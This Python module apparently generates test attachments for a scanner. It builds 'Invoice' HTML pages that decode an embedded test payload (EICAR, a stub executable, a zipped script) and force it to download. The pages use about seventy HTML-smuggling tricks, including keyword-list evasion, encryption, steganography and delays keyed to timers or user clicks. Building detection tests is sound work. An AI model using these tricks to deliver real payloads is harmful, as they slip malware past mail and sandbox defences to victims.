"""Attached pages that carry a file: one body for each trick, in which words in capitals stand for the payload, in some
coding, and for the code that saves it.

Every page saves its payload under a name when it is opened or used; where a trick hides the payload, `SAVE` turns the
variable `s`, a string with one character for each byte, into a file.
"""

# ruff: noqa: E501  scripts are one line each, as they are mailed

import base64
import codecs
import gzip
import io
import json
import re
import struct
import urllib.parse
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PROGRAM = (
    b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"
    + bytes(44)
    + b"\x40\0\0\0PE\0\0 marked payload of a test "
    + bytes(range(256))
)


def make_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(zipfile.ZipInfo("invoice.js"), "WScript.Echo('marked payload');" * 20)
    return out.getvalue()


PAYLOADS: dict[str, bytes] = {"eicar.com": EICAR, "setup.exe": PROGRAM, "invoice.zip": make_archive()}

SAVE = """var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);
var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u],{type:'application/octet-stream'}));
a.download='invoice.bin';document.body.appendChild(a);a.click();"""
# The same without any word that a list of words would have.
QUIET = """(w=>{var k=['cre','ateObj','ectU','RL','Bl','ob','U','int8A','rray','down','load'],u=new w[k[6]+k[7]+k[8]](s.length);
for(var i=0;i<s.length;i++)u[i]=s['char'+'CodeAt'](i);var a=document['cre'+'ateElement']('a');
a['hr'+'ef']=w['U'+'RL'][k[0]+k[1]+k[2]+k[3]](new w[k[4]+k[5]]([u]));a[k[9]+k[10]]='invoice.bin';a['cl'+'ick']()})(self);"""


def page(body: str, head: str = "") -> str:
    return (
        f"<!doctype html><html><head><title>Invoice</title>{head}</head><body><p>Please wait …</p>{body}</body></html>"
    )


def script(code: str, body: str = "") -> str:
    return page(f"{body}<script>{code}</script>")


def b64(payload: bytes) -> str:
    return base64.b64encode(payload).decode()


def cut(payload: bytes, size: int) -> list[str]:
    """The payload in base64, in pieces of so many digits."""
    return [b64(payload)[at : at + size] for at in range(0, len(b64(payload)), size)]


def spell(payload: bytes, zero: str, one: str) -> str:
    """The bits of the payload, as signs that nobody sees."""
    return "".join(f"{byte:08b}" for byte in payload).replace("0", zero).replace("1", one)


def encrypt(payload: bytes, key: bytes) -> str:
    return b64(bytes(byte ^ key[place % len(key)] for place, byte in enumerate(payload)))


def encipher(payload: bytes) -> str:
    key = b"open sesame"
    box = list(range(256))
    at = 0
    for place in range(256):
        at = (at + box[place] + key[place % len(key)]) % 256
        box[place], box[at] = box[at], box[place]
    out, one, two = bytearray(), 0, 0
    for byte in payload:
        one = (one + 1) % 256
        two = (two + box[one]) % 256
        box[one], box[two] = box[two], box[one]
        out.append(byte ^ box[(box[one] + box[two]) % 256])
    return b64(bytes(out))


def draw(payload: bytes) -> str:
    """A picture whose colours are the length and the bytes of the payload."""
    side = 24
    data = len(payload).to_bytes(2, "big") + payload
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), data.ljust(side * side * 3, b"\0")).save(out, "PNG")
    return b64(out.getvalue())


def list_words(payload: bytes) -> str:
    padded = payload + bytes(-len(payload) % 4)
    return ",".join(map(str, struct.unpack(f"<{len(padded) // 4}I", padded)))


def load(payload: bytes, save: str = SAVE) -> str:
    """Code that decodes the payload and saves it."""
    return f"var s=atob('{b64(payload)}');{save}"


def escape(code: str) -> str:
    return urllib.parse.quote(code, safe="")


# What the words in capitals stand for that are in the body of a page.
CODINGS: dict[str, Callable[[bytes], str]] = {
    "PAYLOAD": b64,
    "FIRST": lambda payload: b64(payload)[:20],
    "REST": lambda payload: b64(payload)[20:],
    "PIECES": lambda payload: json.dumps(cut(payload, 40)),
    "ELEMENTS": lambda payload: "".join(f"<i><b>{each}</b></i>" for each in cut(payload, 7)),
    "ITEMS": lambda payload: "".join(f"<li data-part-one='{each}'>" for each in cut(payload, 9)),
    "OPTIONS": lambda payload: "".join(f"<option value='{each}'>" for each in cut(payload, 12)),
    "BACKWARDS": lambda payload: b64(payload)[::-1],
    "ROT13": lambda payload: codecs.encode(b64(payload), "rot13"),
    "ROT47": lambda payload: json.dumps("".join(chr(33 + (ord(char) + 14) % 94) for char in b64(payload))),
    "WIDE": lambda payload: ",".join(map(str, b64(payload).encode("utf-16-le"))),
    "FILLERS": lambda payload: spell(payload, "\uffa0", "\u3164"),
    "JOINERS": lambda payload: spell(payload, "\u200b", "\u200c"),
    "BLANKS": lambda payload: spell(payload, " ", "\t"),
    "EMOJI": lambda payload: "".join(chr(0x1F300 + byte) for byte in payload),
    "INTEGER": lambda payload: f"{int.from_bytes(bytes([1]) + payload, 'big')}n",
    "NUMBERS": lambda payload: ",".join(map(str, payload)),
    "SHIFTED": lambda payload: ",".join(str(byte + 1000) for byte in payload),
    "CELLS": lambda payload: "".join(f"<tr><td>{byte}</td></tr>" for byte in payload),
    "WORDS": list_words,
    "LENGTH": lambda payload: str(len(payload)),
    "PADDED": lambda payload: str(len(payload) + -len(payload) % 4),
    "SECRET": lambda payload: encrypt(payload, b"Kw7!"),
    "CIPHERED": encipher,
    "PICTURE64": draw,
    "GZIP64": lambda payload: b64(gzip.compress(payload, mtime=0)),
    "ZLIB64": lambda payload: b64(zlib.compress(payload)),
    "SAVE": lambda _: SAVE,
    "QUIET": lambda _: QUIET,
    "PACKED": lambda _: json.dumps("0 1=2('3');" + QUIET),
    "CODE64": lambda payload: b64(load(payload).encode()),
    "QUIET64": lambda payload: b64(load(payload, QUIET).encode()),
    "QUIET_QUOTED": lambda payload: json.dumps(load(payload, QUIET)),
    "QUIET_ESCAPED": lambda payload: escape(load(payload, QUIET)),
    "MODULE64": lambda payload: b64(f"export const s=atob('{b64(payload)}')".encode()),
    "MODULE_ESCAPED": lambda payload: escape(f"const s=atob('{b64(payload)}');export {{s as text}}"),
    "FRAME": lambda payload: f"<script>{load(payload)}</script>".replace("&", "&amp;").replace('"', "&quot;"),
    "FRAME64": lambda payload: b64(f"<body><script>{load(payload)}</script>".encode()),
}


def fill(body: str, payload: bytes, codings: dict[str, Callable[[bytes], str]] = CODINGS) -> str:
    """A page that carries the payload. What of the body stands before `</head>` goes into the head."""
    pattern = rf"\b(?:{'|'.join(codings)})\b"
    head, _, rest = re.sub(pattern, lambda mark: codings[mark[0]](payload), body).rpartition("</head>")
    return page(rest, head)


BODIES: dict[str, str] = {
    "plain base64": "<script>var s=atob('PAYLOAD');SAVE</script>",
    "in template": "<template id=t>PAYLOAD</template><script>var s=atob(document.querySelector('#t').content.textContent.trim());QUIET</script>",
    "in nested elements": "<div id=d hidden>ELEMENTS</div><script>var s=atob([...document.querySelectorAll('#d b')].map(e=>e.innerText).join(''));QUIET</script>",
    "in attributes": "<ul>ITEMS</ul><script>var s='';document.querySelectorAll('li').forEach(e=>s+=e.dataset.partOne);s=atob(s);QUIET</script>",
    "in comment": "<!--!PAYLOAD--><script>var w=document.createTreeWalker(document,NodeFilter.SHOW_COMMENT),n,s='';while(n=w.nextNode())if(/^!/.test(n.data))s+=n.data.slice(1);s=atob(s);QUIET</script>",
    "in comment child": "<div id=k><!--PAYLOAD--></div><script>var s=atob(document.getElementById('k').childNodes[0].nodeValue);QUIET</script>",
    "in custom property": "<style>:root{--k:'PAYLOAD'}</style></head><script>var s=atob(getComputedStyle(document.documentElement).getPropertyValue('--k').trim().slice(1,-1));QUIET</script>",
    "in css content": "<style>#x::after{content:\"PAYLOAD\"}</style></head><b id=x></b><script>var s=atob(getComputedStyle(x,'::after').content.replace(/\"/g,''));QUIET</script>",
    "rot47": "<script>var s=atob(ROT47.split('').map(c=>String.fromCharCode(33+(c.charCodeAt()+14)%94)).join(''));QUIET</script>",
    "rot13": "<script>var s=atob('ROT13'.replace(/[a-z]/gi,c=>String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt()+13)?c:c-26)));QUIET</script>",
    "big integer": "<script>var n=INTEGER,s='';for(;n>1n;n>>=8n)s=String.fromCharCode(Number(n&255n))+s;QUIET</script>",
    "hangul fillers": "<script>var s='FILLERS'.replace(/.{8}/g,b=>String.fromCharCode(parseInt([...b].map(c=>+(c=='\\u3164')).join(''),2)));QUIET</script>",
    "zero width": "<p id=z>JOINERS</p><script>var t=document.getElementById('z').textContent,s='';for(var i=0;i<t.length;i+=8)s+=String.fromCharCode(parseInt(t.substr(i,8).replace(/\\u200b/g,0).replace(/\\u200c/g,1),2));QUIET</script>",
    "white space": "<pre>BLANKS</pre><script>var s=document.querySelector('pre').textContent.match(/[ \\t]{8}/g).map(b=>String.fromCharCode(parseInt(b.replace(/ /g,0).replace(/\\t/g,1),2))).join('');QUIET</script>",
    "emoji": "<script>var s=[...'EMOJI'].map(c=>String.fromCharCode(c.codePointAt(0)-0x1f300)).join('');QUIET</script>",
    "constructor of filter": "<script>[]['filter']['constructor'](atob('CODE64'))()</script>",
    "broken picture": "<img src=x onerror=\"eval(atob('CODE64'))\">",
    "data module": "<script>import('data:text/javascript;base64,MODULE64').then(m=>{var s=m.s;QUIET})</script>",
    "static module": "<script type=module>const s=atob(await Promise.resolve('PAYLOAD'));QUIET</script>",
    "imported module": "<script type=module>import {text as s} from 'data:text/javascript,MODULE_ESCAPED';QUIET</script>",
    "exclusive or": "<script>var d=atob('SECRET'),k='Kw7!',s='';for(var j=0;j<d.length;j++)s+=String.fromCharCode(d.charCodeAt(j)^k.charCodeAt(j%4));QUIET</script>",
    "stream cipher": "<script>var k='open sesame',d=atob('CIPHERED'),b=[],i=0,j=0,t,s='';for(;i<256;i++)b[i]=i;for(i=0;i<256;i++){j=(j+b[i]+k.charCodeAt(i%k.length))%256;t=b[i];b[i]=b[j];b[j]=t}i=j=0;for(var y=0;y<d.length;y++){i=(i+1)%256;j=(j+b[i])%256;t=b[i];b[i]=b[j];b[j]=t;s+=String.fromCharCode(d.charCodeAt(y)^b[(b[i]+b[j])%256])}QUIET</script>",
    "backwards": "<script>var s=atob('BACKWARDS'.split('').reverse().join(''));QUIET</script>",
    "shifted numbers": "<script>var s=[SHIFTED].map(n=>String.fromCharCode(n-1000)).join('');QUIET</script>",
    "string timer": "<script>setTimeout(QUIET_QUOTED,4000)</script>",
    "countdown": "<script>var n=5,t=setInterval(function(){if(--n)return;clearInterval(t);var s=atob('PAYLOAD');QUIET},1000)</script>",
    "after some time": "<script>var begin=Date.now();(function wait(){if(Date.now()-begin<6000)return setTimeout(wait,500);var s=atob('PAYLOAD');QUIET})()</script>",
    "busy waiting": "<script>var begin=Date.now();while(Date.now()-begin<8000);var s=atob('PAYLOAD');QUIET</script>",
    "mouse moves": "<script>var n=0;document.addEventListener('mousemove',function(e){if(!e.isTrusted||++n!=3)return;var s=atob('PAYLOAD');QUIET})</script>",
    "third click": "<button>Open</button><script>var n=0;document.querySelector('button').onclick=()=>{if(++n<3)return;var s=atob('PAYLOAD');QUIET}</script>",
    "on submit": "<form id=f><input name=code placeholder=Code><button>Open</button></form><script>f.addEventListener('submit',e=>{e.preventDefault();if(!f.code.value)return;var s=atob('PAYLOAD');QUIET})</script>",
    "in worker": "<script>var w=new Worker(URL.createObjectURL(new Blob([\"onmessage=e=>postMessage(atob(e.data+'REST'))\"])));w.onmessage=e=>{var s=e.data;QUIET};w.postMessage('FIRST')</script>",
    "written script": "<script>document.write('<scr'+'ipt>'+unescape('QUIET_ESCAPED')+'</scr'+'ipt>')</script>",
    "appended script": "<script>var e=document.createElement('script');e.text=atob('QUIET64');document.head.appendChild(e)</script>",
    "inner frame": '<iframe srcdoc="FRAME"></iframe>',
    "data frame": '<iframe src="data:text/html;base64,FRAME64"></iframe>',
    "compressed": "<script>fetch('data:;base64,GZIP64').then(r=>new Response(r.body.pipeThrough(new DecompressionStream('gzip'))).blob()).then(b=>{var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.bin';a.click()})</script>",
    "deflated": "<script>(async()=>{const p=Uint8Array.from(atob('ZLIB64'),c=>c.charCodeAt(0));const b=await new Response(new Blob([p]).stream().pipeThrough(new DecompressionStream('deflate'))).blob();location=URL.createObjectURL(b)})()</script>",
    "fetched data": "<script>fetch('data:application/x;base64,PAYLOAD').then(r=>r.blob()).then(b=>{const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x';a.click()})</script>",
    "requested data": "<script>var x=new XMLHttpRequest;x.open('GET','data:;base64,PAYLOAD');x.responseType='blob';x.onload=function(){var a=document.createElement('a');a.setAttribute('download','x');a.setAttribute('href',URL.createObjectURL(x.response));a.click()};x.send()</script>",
    "old browser": "<script>var s=atob('PAYLOAD'),u=new Uint8Array(s.length);for(var i in s)u[i]=s.charCodeAt(i);navigator['ms'+'SaveOrOpenBlob'](new Blob([u]),'x.bin')</script>",
    "file reader": "<script>var s=atob('PAYLOAD');var r=new FileReader;r.onload=()=>{var a=document.createElement('a');a.href=r.result;a.download='x.bin';a.click()};r.readAsDataURL(new File([Uint8Array.from(s,c=>c.charCodeAt(0))],'x.bin'))</script>",
    "file picker": "<script>document.body.onclick=async()=>{const h=await showSaveFilePicker({suggestedName:'x.bin'}),w=await h.createWritable();await w.write(Uint8Array.from(atob('PAYLOAD'),c=>c.charCodeAt(0)));await w.close()}</script>",
    "packer": '<script>eval(function(p,k){return p.replace(/^0 1=2\\(\'3\'\\)/,k[0]+\' \'+k[1]+\'=\'+k[2]+"(\'"+k[3]+"\')")}(PACKED,["var", "s", "atob", "PAYLOAD"]))</script>',
    "custom element": "<in-voice part='FIRST'>REST</in-voice><script>customElements.define('in-voice',class extends HTMLElement{connectedCallback(){var s=atob(this.getAttribute('part')+this.textContent);QUIET}})</script>",
    "shadow root": "<div id=h></div><script>var r=h.attachShadow({mode:'open'});r.innerHTML='<i>PAYLOAD</i>';var s=atob(r.querySelector('i').textContent);QUIET</script>",
    "observer": "<script>new IntersectionObserver(function(all){if(!all[0].isIntersecting)return;var s=atob('PAYLOAD');QUIET}).observe(document.body)</script>",
    "proxies and getters": "<script>var o=new Proxy({},{get:(t,k)=>({toString(){return atob('PAYLOAD')}})});var s=`${o.anything}`;QUIET</script>",
    "generators": "<script>function*g(){for(const c of 'PAYLOAD')yield c}var s=atob([...g()].join(''));QUIET</script>",
    "thrown strings": "<script>var s='';PIECES.forEach(p=>{try{throw p}catch(e){s+=e}});s=atob(s);QUIET</script>",
    "comment of function": "<script>function f(){/*PAYLOAD*/}var s=atob(f.toString().match(/\\/\\*(.*)\\*\\//)[1]);QUIET</script>",
    "own source": "<script>/*@PAYLOAD@*/var s=atob(document.currentScript.textContent.split('@')[1]);QUIET</script>",
    "json block": "<script type='application/json' id=j>{\"parts\": [\"FIRST\", \"REST\"]}</script><script>var s=atob(JSON.parse(document.getElementById('j').textContent).parts.join(''));QUIET</script>",
    "hidden fields": "<form name=q><input type=hidden name=one value='FIRST'><input type=hidden name=two value='REST'></form><script>var s=atob(document.forms.q.one.value+document.forms['q'].elements[1].value);QUIET</script>",
    "named elements": "<b id=letter title='FIRST'></b><img id=rest alt='REST'><script>var s=atob(letter.title+rest.alt);QUIET</script>",
    "table cells": "<table hidden>CELLS</table><script>var s='';for(const r of document.querySelector('table').rows)s+=String.fromCharCode(+r.cells[0].textContent);QUIET</script>",
    "select options": "<select>OPTIONS</select><script>var s=atob(Array.from(document.querySelector('select').options,o=>o.value).join(''));QUIET</script>",
    "wide decoder": "<script>var s=atob(new TextDecoder('utf-16le').decode(new Uint8Array([WIDE])));QUIET</script>",
    "data view": "<script>var v=new DataView(new ArrayBuffer(PADDED)),s='';[WORDS].forEach((n,i)=>v.setUint32(i*4,n,true));for(var j=0;j<LENGTH;j++)s+=String.fromCharCode(v.getUint8(j));QUIET</script>",
    "kept in storage": "<script>localStorage.setItem('k','PAYLOAD');sessionStorage.k2=localStorage.k;addEventListener('load',()=>{var s=atob(sessionStorage.getItem('k2'));QUIET})</script>",
    "hash change": "<script>onhashchange=()=>{var s=atob('PAYLOAD');QUIET};location.hash='go'</script>",
    "script link": '<a href="java&#9;script:QUIET_ESCAPED;void 0">Open the invoice</a>',
    "script frame": "<script>var f=document.createElement('iframe');f.src='javascript:'+unescape('QUIET_ESCAPED');document.body.append(f)</script>",
    "posted message": "<script>addEventListener('message',e=>{var s=atob(e.data.p);QUIET});postMessage({p:'PAYLOAD'},'*')</script>",
    "canvas of picture": "<img src=\"data:image/png;base64,PICTURE64\"><script>var i=document.querySelector('img'),c=document.createElement('canvas'),x=c.getContext('2d');c.width=c.height=24;i.onload=()=>{x.drawImage(i,0,0);var p=x.getImageData(0,0,24,24).data,b=[];for(var k=0;k<p.length;k++)if(k%4<3)b.push(p[k]);var n=b[0]*256+b[1],s=b.slice(2,2+n).map(v=>String.fromCharCode(v)).join('');QUIET}</script>",
    "canvas of rectangles": "<script>var c=document.createElement('canvas'),x=c.getContext('2d');c.width=LENGTH;c.height=1;[NUMBERS].forEach((n,i)=>{x.fillStyle='rgb('+n+',0,0)';x.fillRect(i,0,1,1)});var p=x.getImageData(0,0,LENGTH,1).data,s='';for(var j=0;j<p.length;j+=4)s+=String.fromCharCode(p[j]);QUIET</script>",
    "remote saver": "<script src='https://cdn.example/FileSaver.min.js'></script><script>saveAs(new Blob([Uint8Array.from(atob('PAYLOAD'),c=>c.charCodeAt(0))]),'x.bin')</script>",
    "jquery click": "<button class=go>Open</button><script src='https://code.jquery.example/jquery.min.js'></script><script>$(function(){$('.go').on('click',function(){var s=atob('PAYLOAD');QUIET})})</script>",
    "sequence of promises": '<script>const wait=n=>new Promise(r=>setTimeout(r,n));(async()=>{let s=\'\';for(const p of ["FIRST", "REST"]){await wait(700);s+=p}s=atob(s);QUIET})()</script>',
}
TRICKS: dict[str, Callable[[bytes], str]] = {name: partial(fill, body) for name, body in BODIES.items()}
